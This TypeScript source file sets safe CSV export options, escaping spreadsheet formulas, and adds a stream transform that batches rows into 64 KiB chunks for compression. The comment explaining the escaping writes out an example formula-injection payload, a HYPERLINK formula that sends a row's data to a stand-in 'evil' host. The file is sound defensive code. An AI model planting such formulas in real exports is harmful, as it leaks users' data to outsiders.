import { Transform } from "node:stream";
import type { Options } from "csv-stringify";

/**
 * The options every CSV the server writes starts from. A cell a user wrote (a key or project name, an
 * actor's name) that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a live formula in
 * the spreadsheet the owner opens the export in (`=HYPERLINK("http://evil/?"&A2,"x")` sends the row
 * away on a click): csv-stringify's `escape_formulas` prefixes such cells with a `'`, which spreadsheets
 * read as "text".
 */
export const SAFE_CSV_OPTIONS = { escape_formulas: true } as const satisfies Options;

/** How much of a CSV is gathered before it goes on to the compressor and the socket. */
export const CSV_CHUNK_BYTES = 64 * 1024;

/**
 * Gathers a stream's small writes (csv-stringify's stream emits each row on its own, ~150 bytes) into
 * chunks of at least `CSV_CHUNK_BYTES`, so the compressor and the socket see a few large writes instead
 * of one per row: issue 35 measured a month of 446k calls with brotli at 27.4 s row by row and 5.6-5.8 s
 * in 64 KiB chunks, byte for byte the same. At most one chunk is held; the last, shorter one goes out at
 * the end.
 */
export function chunkedWrites(chunkBytes = CSV_CHUNK_BYTES): Transform {
  let pending: Buffer[] = [];
  let pendingBytes = 0;
  return new Transform({
    transform(chunk: Buffer | string, _encoding, done) {
      const bytes = typeof chunk === "string" ? Buffer.from(chunk, "utf8") : chunk;
      pending.push(bytes);
      pendingBytes += bytes.length;
      if (pendingBytes >= chunkBytes) {
        this.push(Buffer.concat(pending, pendingBytes));
        pending = [];
        pendingBytes = 0;
      }
      done();
    },
    flush(done) {
      if (pendingBytes > 0) this.push(Buffer.concat(pending, pendingBytes));
      pending = [];
      pendingBytes = 0;
      done();
    },
  });
}
